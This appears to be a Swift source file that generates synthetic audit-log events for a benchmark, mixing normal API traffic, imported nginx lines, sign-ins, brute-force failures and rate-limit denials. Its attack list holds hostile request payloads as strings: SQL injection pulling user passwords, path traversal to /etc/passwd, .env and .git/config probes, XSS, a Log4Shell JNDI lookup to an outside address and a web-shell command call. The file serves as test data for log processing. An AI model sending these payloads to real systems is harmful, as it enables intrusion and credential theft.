import AuditEvents

/// What an application's record holds, made up from a seed: requests, sign-ins good and bad, rate limits, refused tokens, and the lines of a web
/// server that were imported. Of a thousand events some ten are attacks on the web server, and fifty are tries of guessers.
struct BenchMix {
    private var random: SplitMix

    init(seed: UInt64) { random = SplitMix(state: seed) }

    static let summary = "45 % requests, 25 % imported web lines (1 in 25 an attack), 13 % sign-ins, 10 % failed ones, 7 % refusals"

    private static let agents = [
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "okhttp/4.12.0", "curl/8.8.0",
    ]
    private static let pages = [
        "/", "/index.html", "/assets/app.3f9c2a.js", "/assets/app.77d1e0.css", "/images/cover-{n}.webp", "/blog/{n}/how-we-ship-books",
        "/search?q=gardens+of+the+moon&page={n}", "/account/orders?since=2026-01-01&limit={n}", "/favicon.ico", "/robots.txt",
    ]
    private static let attacks = [
        "/index.php?id={n}%20UNION%20SELECT%20user,password%20FROM%20users", "/../../../../etc/passwd", "/.env", "/.git/config",
        "/wp-login.php", "/search?q=%3Cscript%3Ealert({n})%3C/script%3E", "/cgi-bin/luci/;stok=/locale",
        "/?x=${jndi:ldap://198.51.100.7/{n}}",
        "/uploads/shell.php?cmd=id", "/phpmyadmin/index.php",
    ]

    private mutating func next(_ bound: Int) -> Int { Int(random.next() % UInt64(bound)) }

    private mutating func pick(_ texts: [String]) -> String {
        let text = texts[next(texts.count)]
        return text.replacing("{n}", with: String(next(5000)))
    }

    private mutating func client(_ user: Int) -> EventBody.Client {
        .init(ip: "10.\(user % 7).\(user / 250).\(user % 250 + 1)", port: UInt16(1024 + next(60_000)), userAgent: Self.agents[user % 6])
    }

    /// The next event, at `time`.
    mutating func event(at time: Timestamp) -> AuditEvent {
        let id = EventID(time: time, entropy: random.next())
        let user = next(2000)
        let request = "r\(next(1_000_000_000))"
        switch next(100) {
        case ..<45:
            let route = ["/books", "/books/{id}", "/orders/{id}", "/account", "/search"][next(5)]
            let status: Int16 = next(50) == 0 ? 404 : 200
            return AuditEvent(
                header: EventHeader(
                    id: id, source: "api", type: .httpRequest, outcome: Outcome(httpStatus: Int(status)), actorKind: .user,
                    method: next(10) == 0 ? "POST" : "GET", route: route, status: status, durationMicroseconds: Int64(200 + next(20_000))),
                body: EventBody(
                    actor: .init(id: "u\(user)", name: "user\(user)"), client: client(user),
                    session: "fp_0123456789abcdef0123456789ab\(1000 + user)", requestID: request,
                    path: pick(["/books", "/books/{n}", "/orders/{n}", "/account", "/search?q=dune&page={n}"])))
        case ..<70:
            let isAttack = next(25) == 0
            let status: Int16 = isAttack ? 404 : [200, 200, 200, 304, 301, 404][next(6)]
            var client = client(user)
            if isAttack { client.ip = "192.0.2.\(next(200) + 1)" }
            return AuditEvent(
                header: EventHeader(
                    id: id, source: "web1:access.log", type: .httpRequest, outcome: Outcome(httpStatus: Int(status)), method: "GET",
                    status: status),
                body: EventBody(
                    client: client, path: pick(isAttack ? Self.attacks : Self.pages), service: "nginx",
                    details: [
                        "bytes": .int(Int64(next(90_000))), "protocol": "HTTP/1.1",
                        "referer": .string(pick(["-", "https://shop.example/blog/{n}"])),
                    ]
                ))
        case ..<83:
            return signIn(id, .loginSuccess, .success, nil, user, client(user), request)
        case ..<93:
            // Half are users who mistype, half are guessers with two hundred addresses.
            var client = client(user)
            if next(2) == 0 { client.ip = "198.51.100.\(next(200) + 1)" }
            return signIn(id, .loginFailure, .failure, next(4) == 0 ? "unknown_user" : "bad_password", user, client, request)
        case ..<96:
            return AuditEvent(
                header: EventHeader(
                    id: id, source: "api", type: .rateLimitExceeded, outcome: .denied, reason: "too_many_requests", severity: .low,
                    method: "GET", route: "/search", status: 429),
                body: EventBody(client: client(user), requestID: request, path: "/search?q=a", details: ["policy": "search"]))
        case ..<98:
            return AuditEvent(
                header: EventHeader(
                    id: id, source: "api", type: .authorizationFailure, outcome: .denied, reason: "missing_role", severity: .low,
                    actorKind: .user, method: "DELETE", route: "/books/{id}", status: 403),
                body: EventBody(
                    actor: .init(id: "u\(user)", name: "user\(user)"), client: client(user), requestID: request, path: pick(["/books/{n}"]))
            )
        default:
            return AuditEvent(
                header: EventHeader(
                    id: id, source: "api", type: .tokenRejected, outcome: .denied, reason: "expired", severity: .low, method: "GET",
                    route: "/account", status: 401),
                body: EventBody(
                    client: client(user), token: .init(fingerprint: "fp_\(1_000_000 + user)"), requestID: request, path: "/account"))
        }
    }

    private func signIn(
        _ id: EventID, _ type: EventType, _ outcome: Outcome, _ reason: String?, _ user: Int, _ client: EventBody.Client, _ request: String
    ) -> AuditEvent {
        AuditEvent(
            header: EventHeader(
                id: id, source: "api", type: type, outcome: outcome, reason: reason, actorKind: .user, method: "POST", route: "/login",
                status: outcome == .success ? 200 : 401),
            body: EventBody(actor: .init(name: "user\(user)"), client: client, requestID: request, path: "/login"))
    }
}
